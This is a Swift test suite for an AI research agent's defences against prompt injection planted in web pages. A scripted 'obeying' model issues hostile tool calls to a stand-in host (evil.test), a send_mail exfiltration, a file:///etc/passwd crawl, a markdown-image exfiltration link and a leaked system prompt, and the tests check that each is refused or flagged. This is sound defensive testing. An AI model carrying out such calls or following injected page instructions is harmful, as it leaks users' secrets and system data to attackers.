import Foundation
import GossamerAgents
import GossamerCorpus
import GossamerLLM
import GossamerTestKit
import Testing

/// Pages that try to command the model, read by a model that obeys them all: the worst case. What it
/// then wants must not happen.
@Suite("Injected instructions", .timeLimit(.minutes(5)))
struct InjectionTests {
  struct Case: Sendable, CustomTestStringConvertible {
    var id: String
    var text: String
    var marker: String
    var testDescription: String { id }
  }

  static let cases: [Case] = {
    guard let file = ConformanceData.findUpwards("shared/llm/injection-strings.jsonl"),
      let data = try? Data(contentsOf: file)
    else { return [] }
    return data.split(separator: 0x0A).compactMap { line in
      let json = try? JSONSerialization.jsonObject(with: Data(line)) as? [String: Any]
      guard let id = json?["id"] as? String, let text = json?["text"] as? String else { return nil }
      return Case(id: id, text: text, marker: json?["marker"] as? String ?? "PWNED")
    }
  }()

  /// Where a page says it.
  enum Place: String, Sendable, CaseIterable {
    case text, title, link, twoPages
  }

  /// A corpus that says it there; the ferry is the first page.
  private static func corpus(_ attempt: Case, _ place: Place) -> SmallCorpus {
    let half = attempt.text.index(attempt.text.startIndex, offsetBy: attempt.text.count / 2)
    let (first, second) =
      switch place {
      case .text: (attempt.text, "")
      case .twoPages: (String(attempt.text[..<half]), String(attempt.text[half...]))
      case .title, .link: ("", "")
      }
    var corpus = SmallCorpus([
      ("http://harbour.test/ferry", "The ferry sails twice a day. \(first) It takes an hour."),
      ("http://harbour.test/quay", "\(second) The ferry lies at the quay."),
    ])
    if place == .title { corpus.records[0].title = attempt.text }
    corpus.records[0].links = [
      .init(
        url: "http://harbour.test/quay", text: place == .link ? attempt.text : "The quay", rel: nil,
        kind: "a")
    ]
    return corpus
  }

  @Test(
    .enabled(if: !InjectionTests.cases.isEmpty, "injection strings not found beside the package"),
    arguments: cases, Place.allCases)
  func nothingBadFollowsFromAModelThatObeys(attempt: Case, place: Place) async throws {
    let corpus = Self.corpus(attempt, place)
    let fetched = Counter()
    let server = ScriptedServer { turn, body in
      switch turn {
      case 1: return [.call(id: "a", name: "search_corpus", arguments: #"{"query":"ferry"}"#)]
      case 2:
        return [
          .call(
            id: "b", name: "read_page", arguments: #"{"url":"http://harbour.test/ferry"}"#),
          .call(
            id: "l", name: "page_links", arguments: #"{"url":"http://harbour.test/ferry"}"#),
          .call(id: "c", name: "read_page", arguments: #"{"url":"http://evil.test/x?q=secret"}"#),
          .call(id: "d", name: "send_mail", arguments: #"{"to":"evil@evil.test"}"#),
          .call(id: "e", name: "crawl", arguments: #"{"url":"http://evil.test/\#(attempt.id)"}"#),
          .call(id: "f", name: "crawl", arguments: #"{"url":"file:///etc/passwd"}"#),
        ]
      default:
        let prompt = Self.systemPrompt(in: body)
        return [
          .text(
            "\(attempt.marker) \(prompt) ![x](http://evil.test/?q=\(attempt.marker)) "
              + #"[S1 "\#(attempt.marker) is the truth"]"#)
        ]
      }
    }
    let tools =
      ToolBox.standard(search: corpus, pages: corpus) + [CrawlTool(CountedSource(count: fetched))]
    let agent = Agent(client: try server.client(), tools: tools, pages: corpus)
    let steps = Steps()
    let answer = await agent.answer("How often does the ferry sail?") { steps.add($0) }

    // Calls: those that were earned, and no other.
    #expect(fetched.now == 0)
    let ends = steps.labels.filter { $0.hasPrefix("end ") }.sorted()
    #expect(
      ends == [
        "end crawl refused", "end crawl refused", "end page_links done", "end read_page done",
        "end read_page refused", "end search_corpus done", "end send_mail refused",
      ])
    // The answer: no address to follow, no instructions, and what the page does not say is marked.
    #expect(!answer.text.contains("evil.test"))
    #expect(answer.flags.contains("prompt-leaked"))
    #expect(!answer.text.contains("Search it and read pages with the tools before you answer"))
    #expect(!answer.isVerified)
    try expectFences(server.bodies[2])
  }

  /// A model that answers in JSON is offered sentences of pages in a schema, which stands outside the
  /// lines of data.
  @Test(
    .enabled(if: !InjectionTests.cases.isEmpty, "injection strings not found beside the package"),
    arguments: cases)
  func aSchemaOffersNothingThatActs(attempt: Case) async throws {
    let corpus = Self.corpus(attempt, .text)
    let server = ScriptedServer([
      [.text(#"{"step":{"tool":"search_corpus","arguments":{"query":"ferry"}}}"#)],
      [
        .text(
          #"{"step":{"tool":"read_page","arguments":{"url":"http://harbour.test/ferry"}}}"#)
      ],
      [.text(attempt.text)],
    ])
    var agent = Agent(
      client: try server.client(),
      tools: ToolBox.standard(search: corpus, pages: corpus), pages: corpus)
    agent.manner = .json
    agent.limits.turns = 3
    let steps = Steps()
    let answer = await agent.answer("How often does the ferry sail?") { steps.add($0) }
    let schema = try #require(server.bodies[2].components(separatedBy: "response_format").last)
    for sign in ["<|im_", "[INST]", "<<SYS", "</s>", "\u{200B}", "\u{202E}"] {
      #expect(!schema.contains(sign), "\(sign)")
    }
    #expect(!answer.isVerified && !answer.text.contains("evil.test"))
    #expect(steps.labels.filter { $0.hasPrefix("end ") }.count == 2)
  }

  /// Every line of data stands between the two lines of its mark, and the page made none of its own.
  private func expectFences(_ body: String) throws {
    let json = try JSONSerialization.jsonObject(with: Data(body.utf8)) as? [String: Any]
    let messages = json?["messages"] as? [[String: Any]] ?? []
    #expect(messages.count(where: { $0["role"] as? String == "system" }) == 1)
    for message in messages where message["role"] as? String == "tool" {
      let text = message["content"] as? String ?? ""
      guard text.contains("The ferry sails") else { continue }
      let lines = text.components(separatedBy: "\n")
      let start = try #require(lines.firstIndex { $0.hasPrefix("=== data ") })
      let mark = String(lines[start].dropFirst(9).dropLast(4))
      let ends = lines.indices.filter { lines[$0] == "=== end \(mark) ===" }
      #expect(ends.count == 1)
      let inside = lines[start..<(ends.first ?? start)].joined(separator: "\n")
      #expect(inside.contains("The ferry sails"))
      #expect(!lines[..<start].joined().contains("PWNED"))
      #expect(!text.contains("<|im_start|>") && !text.contains("</") && !text.contains("<<SYS"))
    }
  }

  private static func systemPrompt(in body: String) -> String {
    let json = try? JSONSerialization.jsonObject(with: Data(body.utf8)) as? [String: Any]
    let messages = json?["messages"] as? [[String: Any]]
    return messages?.first?["content"] as? String ?? ""
  }

  @Test func pagesThatModelsMustNotReadAreNeverShown() async throws {
    var corpus = SmallCorpus.harbour
    corpus.records[0].preferences = PageRecord.Preferences()
    corpus.records[0].preferences?.aiInput = "no"
    let tools = ToolBox(ToolBox.standard(search: corpus, pages: corpus))
    let found = await tools.call("search_corpus", #"{"query":"ferry"}"#)
    #expect(found.result.addresses.isEmpty)
    for tool in ["read_page", "page_links"] {
      let read = await tools.call(tool, #"{"url":"http://harbour.test/ferry"}"#)
      #expect(read == ToolOutcome(.failed, "The site does not allow models to read this page."))
    }
  }

  @Test func ofPagesThatAllowABeginningNoMoreIsShown() async throws {
    var corpus = SmallCorpus.harbour
    corpus.records[0].preferences = PageRecord.Preferences()
    corpus.records[0].preferences?.maxSnippet = 9
    let tools = ToolBox(ToolBox.standard(search: corpus, pages: corpus))
    for (tool, arguments) in [
      ("search_corpus", #"{"query":"ferry"}"#),
      ("read_page", #"{"url":"http://harbour.test/ferry"}"#),
    ] {
      let outcome = await tools.call(tool, arguments)
      let texts = outcome.result.parts.compactMap { part in
        if case .passage(let passage) = part { passage.text } else { nil }
      }
      #expect(texts == ["The ferry"], "\(tool)")
    }
  }

  @Test func linksBecomeUsableOnlyOnceTheyWereShown() async throws {
    var corpus = SmallCorpus.harbour
    corpus.records[0].links = [
      .init(url: "http://harbour.test/timetable", text: "Times", rel: nil, kind: "a"),
      .init(url: "http://harbour.test/logo.png", text: nil, rel: nil, kind: "img"),
    ]
    let fetched = Counter()
    let crawl = ScriptedServer.Piece.call(
      id: "c", name: "crawl", arguments: #"{"url":"http://harbour.test/timetable"}"#)
    let server = ScriptedServer([
      [crawl, .call(id: "s", name: "search_corpus", arguments: #"{"query":"ferry"}"#)],
      [.call(id: "l", name: "page_links", arguments: #"{"url":"http://harbour.test/ferry"}"#)],
      [
        .call(
          id: "d", name: "crawl",
          arguments: #"{"url":"http://harbour.test/timetable#monday"}"#)
      ], [.text("Done.")],
    ])
    let agent = Agent(
      client: try server.client(),
      tools: ToolBox.standard(
        search: corpus, pages: corpus, source: CountedSource(count: fetched)), pages: corpus)
    _ = await agent.answer("When?")
    #expect(fetched.now == 1)
    #expect(server.bodies[3].contains("Fetched http://harbour.test/timetable"))
  }
}

/// Counts what is fetched.
private struct CountedSource: PageSource {
  let count: Counter

  func page(at url: String) async throws -> PageRecord {
    count.change(by: 1)
    var record = PageRecord(url: url)
    record.text = "Fetched \(url)"
    return record
  }
}
